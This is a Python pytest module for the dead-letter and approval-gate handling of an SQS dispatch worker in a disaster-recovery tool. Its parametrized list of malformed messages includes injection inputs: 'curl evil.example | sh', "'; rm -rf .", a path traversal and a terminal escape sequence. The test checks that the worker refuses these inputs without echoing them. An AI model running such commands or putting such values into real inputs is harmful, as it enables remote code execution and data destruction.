"""Messages that nobody can do: told, put away by SQS after so many tries, shown, cleared away.

And those that wait for a person: however often they are looked at, they are not among them.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from typing import Any, cast

import pytest

from drstate.errors import (
    DrstateError,
    InternalError,
    JournalError,
    Retry,
    StateError,
    UnknownNameError,
)
from drstate.execution.checkup import checkup
from drstate.execution.dispatch.dead import dead_letters
from drstate.execution.dispatch.deploying import REDRIVE_AFTER
from drstate.execution.dispatch.messages import Kind, Task, read_task
from drstate.execution.dispatch.settling import dispatched
from drstate.execution.dispatch.shards import ATTEMPTS
from drstate.execution.dispatch.worker import Worker
from drstate.journal.port import ExecutionHeader, Journal
from drstate.model import events as e
from drstate.model.events import ExecutionStatus
from tests.execution.hubs import DOCUMENTED, Hub
from tests.execution.workers import REGION
from tests.execution.worlds import World

ROOT = f"arn:aws:states:{REGION}:100000000001:execution:DROrchestrator:run-1"
TOKEN = "QUJDREVGR0hJSktMTU5PUFFSU1Q="


@pytest.fixture(scope="module")
def hub(ready: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hub]:
    """One for all: every test ends with no execution open."""
    world = ready.copy(tmp_path_factory.mktemp("hub") / "home")
    try:
        with world.services() as services:
            yield Hub(services, world.home / "sandbox")
    finally:
        world.stop()


def message(text: str, times: int = 1) -> dict[str, Any]:
    attributes = {"ApproximateReceiveCount": str(times)}
    return {"Body": text, "ReceiptHandle": "r", "MessageId": "m", "Attributes": attributes}


def task(**fields: Any) -> str:
    return json.dumps({"kind": "advance", "root": ROOT, "token": TOKEN, **fields})


@pytest.mark.parametrize(
    "text",
    [
        "hello",
        "[]",
        "[" * 200_000,
        '{"a":' * 30_000,
        "9" * 9_000,
        task(kind="destroy"),
        task(kind=["advance"]),
        task(token=""),
        task(token=f"{TOKEN}; curl evil.example | sh"),
        task(token="x" * 5_000),
        task(root="short"),
        task(root=f"{ROOT}'; rm -rf ."),
        task(root=f"{ROOT}\ud800"),
        task(execution="../../acme/production"),
        task(execution=7),
        task(execution="\x1b]0;title\x07"),
        task(execution="x" * 300),
        task(shard="a b"),
        task(state={"execution": "../up"}),
        task(stage={"a": 1}),
    ],
)
def test_what_is_no_task_is_refused_and_not_repeated_to_terminals(text: str) -> None:
    with pytest.raises(InternalError, match="is no task") as refused:
        read_task(message(text))
    assert refused.value.why.isascii()
    assert refused.value.why.isprintable()
    assert len(refused.value.why) < 300
    assert "evil" not in refused.value.why


def test_what_step_functions_sends_is_a_task_whatever_its_name() -> None:
    body = task(root=ROOT.replace("run-1", "übung_2026(x)"), state={"execution": "20260301-a"})
    found = read_task(message(body, times=3))
    assert (found.execution, found.attempt, found.anew) == ("20260301-a", 3, False)
    again = read_task(message(found.again()))
    assert (again.token, again.root, again.attempt, again.anew) == (TOKEN, found.root, 1, True)


def test_a_message_that_nobody_can_do_comes_among_the_dead_letters_and_is_told(hub: Hub) -> None:
    said: list[str] = []
    made = Worker(hub.services, hub.queue, REGION, say=said.append)
    hub.aws.call("sqs", "send_message", QueueUrl=hub.url, MessageBody="[" * 200_000)
    for _ in range(REDRIVE_AFTER - 1):
        receipt = _receipt(hub)
        hub.queue.keep(receipt, 0)
    made.run(tasks=1)
    assert "is no task: RecursionError" in said[-1]
    hub.queue.keep(receipt, 0)
    assert hub.queue.receive() is None
    assert hub.queue.dead() == 1

    troubles = [row for row in checkup(hub.services).troubles if "dead letter" in row.what]
    assert [row.mend for row in troubles] == [f"drstate dispatcher dead --region {REGION}"]
    made._swept = -1000.0
    made._sweep()
    assert said[-1] == (
        f"1 dead letter in the queue; see: drstate dispatcher dead --region {REGION}"
    )

    (letter,) = dead_letters(hub.aws)
    assert (letter.size, letter.execution) == (200_000, "")
    assert "RecursionError" in letter.what
    assert [one.id for one in dead_letters(hub.aws, discard=True)] == [letter.id]
    assert (hub.queue.dead(), dead_letters(hub.aws)) == (0, ())


def _receipt(hub: Hub) -> str:
    while True:
        found = hub.queue.receive()
        assert found is not None
        if found["Body"].startswith("[["):
            return str(found["ReceiptHandle"])
        hub.queue.delete(found["ReceiptHandle"])  # of an execution that has ended


def _gate(hub: Hub) -> tuple[str, str]:
    """A new execution that waits at its first gate: its ARN, and its id."""
    arn = hub.start({**DOCUMENTED, "ApprovalMode": "required"})
    header = hub.work_until(ExecutionStatus.PAUSED)
    hub.token(arn)
    return arn, header.execution


def _stopped(hub: Hub, arn: str, execution: str) -> None:
    hub.call("stop_execution", executionArn=arn, error="Drill", cause="seen enough")
    hub.close(execution)


class _Absent:
    """A journal that does not answer for a while."""

    def __init__(self, journal: Journal, error: DrstateError) -> None:
        self._journal = journal
        self._error = error

    def header(self, _: str) -> ExecutionHeader:
        raise self._error

    def __getattr__(self, name: str) -> Any:
        return getattr(self._journal, name)


@pytest.fixture
def without_journal(hub: Hub) -> Iterator[Callable[[DrstateError], None]]:
    known = hub.services.readers.journal

    def broken(error: DrstateError) -> None:
        hub.services.readers.journal = cast("Journal", _Absent(known, error))

    yield broken
    hub.services.readers.journal = known


def test_a_gate_is_looked_at_for_days_and_a_look_that_fails_rejects_nothing(
    hub: Hub,
    without_journal: Callable[[DrstateError], None],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for place in ("waiting", "worker"):
        monkeypatch.setattr(f"drstate.execution.dispatch.{place}.LATER_SECONDS", 0)
    arn, execution = _gate(hub)
    token = hub.token(arn)
    said: list[str] = []
    made = Worker(hub.services, hub.queue, REGION, say=said.append)
    known = hub.services.readers.journal
    for number in range(REDRIVE_AFTER + 5):
        seen = _next(hub, token)
        assert (seen.kind, seen.attempt) == (Kind.GATE, 1)
        assert seen.anew is (number > 0)
        if number == ATTEMPTS + 1:
            without_journal(JournalError("the journal does not answer", retry=Retry.TRANSIENT))
        made.handle(seen)
        hub.services.readers.journal = known
    assert [line for line in said if "does not answer" in line]
    assert hub.call("describe_execution", executionArn=arn)["status"] == "RUNNING"
    assert hub.queue.token(arn) == token
    assert hub.queue.dead() == 0
    assert hub.services.journal.header(execution).status is ExecutionStatus.PAUSED
    _stopped(hub, arn, execution)


def _next(hub: Hub, token: str) -> Task:
    """The task with this token, as the queue hands it out; what else there is has ended."""
    for _ in range(400):
        found = hub.queue.receive()
        task = read_task(found) if found is not None else None
        if task is not None and task.token == token:
            return task
        threading.Event().wait(0.02)
    raise AssertionError("there is none")


def test_a_worker_with_another_journal_ends_and_leaves_its_task_to_the_others(
    hub: Hub, without_journal: Callable[[DrstateError], None]
) -> None:
    arn, execution = _gate(hub)
    hub.call("send_task_success", taskToken=hub.token(arn), output='{"approved": true}')
    made = Worker(hub.services, hub.queue, REGION, say=lambda _: None)
    known = hub.services.readers.journal
    without_journal(UnknownNameError("there is no such execution"))
    with pytest.raises(StateError, match="does not hold execution") as refused:
        made.run(tasks=10)
    assert "DRSTATE_JOURNAL" in refused.value.hint
    hub.services.readers.journal = known
    # its task went to the others at once, not after the time for which it is hidden
    hub.work_until(ExecutionStatus.RUNNING)
    _stopped(hub, arn, execution)


def test_who_is_no_longer_in_charge_does_nothing_and_tells_nobody(hub: Hub) -> None:
    first, execution = _gate(hub)
    old = hub.token(first)
    second = hub.start({"execution": execution})
    hub.work_until(ExecutionStatus.PAUSED)
    while dispatched(hub.services, execution) != second:
        hub.worker.run(tasks=1)
    events = len(hub.told(execution))
    # a yes to the first one's gate decides nothing any more, and its execution says why
    hub.call("send_task_success", taskToken=old, output='{"approved": true}')
    found = hub.over(first)
    assert (found["status"], found["error"]) == ("FAILED", "Usage")
    assert f"is not run by {first}" in found["cause"]
    told = hub.told(execution)[events:]
    assert not any(isinstance(one, e.GateDecided | e.StageStarted) for one in told), told
    assert hub.services.journal.header(execution).status is ExecutionStatus.PAUSED
    _stopped(hub, second, execution)
